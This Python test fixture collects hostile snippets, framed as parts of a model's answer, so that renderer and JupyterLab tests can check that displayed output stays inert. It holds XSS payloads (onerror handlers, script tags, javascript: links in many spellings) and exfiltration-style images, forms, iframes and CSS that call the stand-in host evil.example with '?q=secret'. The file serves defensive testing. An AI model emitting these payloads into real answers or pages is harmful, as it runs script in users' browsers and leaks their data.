"""Hostile pieces of a model's answer: each would run script or fetch something if shown as is.

The renderer tests run each through every way an answer is shown; the browser test shows them
all in JupyterLab and looks for the traces ``pwn`` leaves.
"""

from __future__ import annotations

EVIL = "https://evil.example"


def pwn(tag: str) -> str:
    """JavaScript that leaves a trace when it runs (the browser test looks for it)."""
    return f"(window.__pwned=window.__pwned||[]).push('{tag}');document.title='pwned'"


# name -> a piece of a model's answer that would run script or fetch something if shown as is
PAYLOADS: dict[str, str] = {
    "img-onerror": f'<img src=x onerror="{pwn("img-onerror")}">',
    "svg-onload": f'<svg onload="{pwn("svg-onload")}"><circle r="5"></circle></svg>',
    "details-ontoggle": f'<details open ontoggle="{pwn("details")}"><summary>s</summary>d</details>',
    "script": f"<script>{pwn('script')}</script>",
    "html-js-link": f'<a href="javascript:{pwn("html-js-link")}">html js link</a>',
    "iframe": f'<iframe src="{EVIL}/iframe?q=secret"></iframe>'
    f"<iframe src=\"javascript:parent.__pwned=['iframe']\"></iframe>",
    "form": f'<form action="{EVIL}/form"><input name="q" value="secret"><button>Send</button></form>',
    "style": f"<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/style.png) }}"
    "</style>",
    "md-image": f"![chart]({EVIL}/md.png?q=secret)",
    "img-remote": f'<img src="{EVIL}/img.png?q=secret">',
    "data-url": "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
    '<a href="data:text/html,hi">html data link</a> '
    "![data image](data:image/png;base64,iVBORw0KGgo=)",
    "md-js-link": f"[md js link](javascript:{pwn('md-js-link')})",
    # the same ideas in other spellings
    "md-js-link-entity": f"[entity link](javascript&#58;{pwn('entity')})",
    "md-js-link-ref": f"[ref js link][jsref]\n\n[jsref]: javascript:{pwn('ref')}",
    "md-image-ref": f"![ref image][imgref]\n\n[imgref]: {EVIL}/ref.png?q=secret",
    "autolink-js": f"<javascript:{pwn('autolink')}>",
    "style-attr": f'<div style="background-image:url({EVIL}/attr.png)">styled</div>',
    "link-css": f'<link rel="stylesheet" href="{EVIL}/link.css">',
    "table-background": f'<table background="{EVIL}/table.png"><tr><td>t</td></tr></table>',
    "srcset": f'<img srcset="{EVIL}/srcset.png 1x">',
    "object-embed": f'<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">',
    "base": f'<base href="{EVIL}/">',
    "code-span-html": f'`x <- 1` then <img src=x onerror="{pwn("after-code")}">',
    "escaped-backtick": f'\\`<img src=x onerror="{pwn("escaped-backtick")}">`',
    "fence-in-list": f'1. step\n   ```r\n   x <- 1\n   ```\n   <img src=x onerror="{pwn("list")}">',
    "angle-dest": f"[angle link](<javascript:{pwn('angle')}>)",
    "backslash-colon": f"[backslash link](javascript\\:{pwn('backslash')})",
    "newline-dest": f"[newline link](\njavascript:{pwn('newline')})",
    "nested-image-link": f"[![nested]({EVIL}/nested.png)](javascript:{pwn('nested')})",
    "html-comment": f'<!-- c --><img src=x onerror="{pwn("comment")}">',
    "cdata": f'<![CDATA[ x ]]><img src=x onerror="{pwn("cdata")}">',
    "table-cell": f'| a | b |\n|---|---|\n| `x|y` | <img src=x onerror="{pwn("table")}"> |',
    # MathJax typesets $...$ in rendered Markdown and HTML outputs: links and styles there
    "math": f"$\\href{{javascript:{pwn('math')}}}{{math link}}$ and "
    f"$\\style{{background-image:url({EVIL}/math.png)}}{{x}}$",
}
